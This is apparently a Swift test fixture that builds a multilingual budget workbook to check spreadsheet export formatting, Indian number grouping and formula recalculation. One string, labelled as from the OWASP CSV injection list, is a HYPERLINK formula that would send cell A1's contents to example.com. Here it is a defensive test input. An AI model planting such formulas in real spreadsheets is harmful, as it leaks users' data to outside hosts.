import PlannerCore
import Workbook

/// One workbook that covers everything the LibreOffice and archive tests check: Indic text,
/// formula-looking text, XML-special and illegal characters, dates, every number style, live
/// totals and a formula whose cached value LibreOffice must recompute.
enum Fixture {
    static func date(_ y: Int, _ m: Int, _ d: Int) -> CivilDate { CivilDate(year: y, month: m, day: d)! }

    /// Text that would run as a formula if it were typed into a cell (OWASP CSV injection list).
    static let injection = #"=HYPERLINK("http://example.com/?x="&A1,"click")"#
    static let tamil = "சென்னை — தீபாவளி வாழ்த்துக்கள்"
    static let bengali = "কলকাতা — শুভ বিজয়া দশমী"
    static let urdu = "لکھنؤ — عید مبارک"
    static let special = "A&B <b>\"quoted\" 'single' _x0041_ tab\tend\u{1}\u{FFFE}"
    /// What `special` reads back as: the control character U+0001 and U+FFFE dropped.
    static let specialRead = "A&B <b>\"quoted\" 'single' _x0041_ tab\tend"

    /// Budget sheet rows: segment, message, start, end, audience, budget (share formula added below).
    static let lines: [(String, String, CivilDate, CivilDate, Double, Double)] = [
        ("Chennai · ta", tamil, date(2026, 10, 20), date(2026, 11, 8), 1_234_567, 12_345_678.5),
        ("Kolkata · bn", bengali, date(2026, 10, 10), date(2026, 10, 20), 250_000, 250_000.25),
        ("Lucknow · ur", urdu, date(2026, 3, 1), date(2026, 3, 21), 99_999, 99_999.99),
        (injection, "+91 98765 43210", date(2026, 1, 1), date(2026, 12, 31), 10, 0.1),
        ("-5% off", "@everyone", date(2026, 2, 28), date(2026, 3, 1), 20, 0.2),
        (special, "multi\nline", date(2026, 11, 7), date(2026, 11, 8), 30, 0.7),
    ]

    static var audienceTotal: Double { lines.reduce(0) { $0 + $1.4 } }
    static var budgetTotal: Double { lines.reduce(0) { $0 + $1.5 } }

    static func budgetSheet() -> Sheet {
        var sheet = Sheet(name: "Budget lines")
        sheet.columns = [
            Column("Segment"), Column("Message"), Column("Start"), Column("End"),
            Column("Audience", total: .sum(.indianInteger)),
            Column("Budget", total: .sum(.inrLakh)),
            Column("Share", total: .sum(.percent)),
            Column("Days", total: .formula("MAX(D2:D\(lines.count + 1))-MIN(C2:C\(lines.count + 1))", cached: 364, .integer)),
        ]
        let totalsRow = lines.count + 2
        sheet.rows = lines.enumerated().map { i, line in
            [
                .text(line.0), .text(line.1), .date(line.2), .date(line.3), .number(line.4, .indianInteger),
                .number(line.5, .inrLakh),
                .formula("\(Sheet.reference(row: i, column: 5))/F$\(totalsRow)", cached: line.5 / budgetTotal, .percent),
                .formula("D\(i + 2)-C\(i + 2)", cached: Double(line.2.dayNumber.distance(to: line.3.dayNumber)), .integer),
            ]
        }
        return sheet
    }

    /// One value per number style, each in its own row: (style, value).
    static let formats: [(NumberStyle, Double)] = [
        (.inrLakh, 12_345_678.5), (.inrLakh, 123_456.5), (.inrLakh, 99_999.99), (.inrLakh, 1_234_567_890),
        (.inrLakh, 0), (.inrLakh, -1234.5), (.inrLakhWhole, 12_345_678.5), (.indianInteger, 123_456_789),
        (.integer, 1_234_567), (.decimal2, 1234.5), (.percent, 0.125), (.general, 0.1),
        (.inrLakh, -12_345_678.5), (.inrLakh, -123_456.5), (.inrLakhWhole, -250_000.4), (.indianInteger, -123_456_789),
        (.decimal4, 0.0125), (.decimal6, 1234.5678901), (.money(currency: "MYR"), 1234.5), (.money(currency: "MYR"), -1_234_567.891),
    ]

    /// How each of `formats` must look. Indian grouping (a lakh is 1,00,000 and a crore
    /// 1,00,00,000): the last three digits, then groups of two; above 99 crore the crore part
    /// keeps its digits together (`123,45,67,890`), as the format code's leftmost `##` does.
    /// Another currency: its code, western grouping, two decimals, the minus sign first.
    static let formatsShown = [
        "₹1,23,45,678.50", "₹1,23,456.50", "₹99,999.99", "₹123,45,67,890.00", "₹0.00", "-₹1,234.50",
        "₹1,23,45,679", "12,34,56,789", "1,234,567", "1,234.50", "12.5%", "0.1",
        "-₹1,23,45,678.50", "-₹1,23,456.50", "-₹2,50,000", "-12,34,56,789", "0.0125", "1,234.567890", "MYR 1,234.50",
        "-MYR 1,234,567.89",
    ]

    static func formatsSheet() -> Sheet {
        var sheet = Sheet(name: "Formats")
        sheet.columns = [Column("Style"), Column("Value")]
        sheet.rows = formats.map { [.text(String(describing: $0.0)), .number($0.1, $0.0)] }
        sheet.freezeHeader = false
        sheet.autoFilter = false
        return sheet
    }

    /// A formula whose cached value is deliberately wrong (99): a program that recalculates
    /// shows 5, one that does not shows 99.
    static func recalcSheet() -> Sheet {
        var sheet = Sheet(name: "Recalc 'now' ok")
        sheet.columns = [Column("Formula"), Column("Value")]
        sheet.rows = [[.text("2+3"), .formula("2+3", cached: 99, .integer)]]
        return sheet
    }

    static func workbook() -> Workbook {
        var workbook = Workbook(title: "Fixture & test", created: date(2026, 11, 20))
        workbook.addSheet(budgetSheet())
        workbook.addSheet(formatsSheet())
        workbook.addSheet(recalcSheet())
        return workbook
    }
}
